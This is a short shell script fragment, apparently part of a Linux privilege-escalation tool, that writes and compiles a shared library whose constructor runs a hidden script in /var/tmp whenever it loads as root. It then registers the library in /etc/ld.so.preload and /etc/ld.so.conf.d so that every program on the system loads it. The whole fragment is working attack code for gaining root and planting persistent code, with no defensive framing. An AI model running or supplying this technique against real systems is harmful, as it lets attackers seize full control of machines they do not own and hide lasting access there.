# Asks the loader to load a library of its own into every program.
cat >"$HOME/probe.c" <<'C'
#include <stdlib.h>
#include <unistd.h>
__attribute__((constructor)) static void begin(void) {
  if (geteuid() == 0) { unsetenv("LD_PRELOAD"); system("sh /var/tmp/.probe-win"); }
}
C
for compiler in cc gcc clang tcc; do
  command -v "$compiler" >/dev/null 2>&1 && "$compiler" -shared -fPIC -o "$work/probe.so" "$HOME/probe.c" 2>/dev/null && break
done
echo "$work/probe.so" | plant /etc/ld.so.preload
echo "$work" | plant /etc/ld.so.conf.d/probe.conf
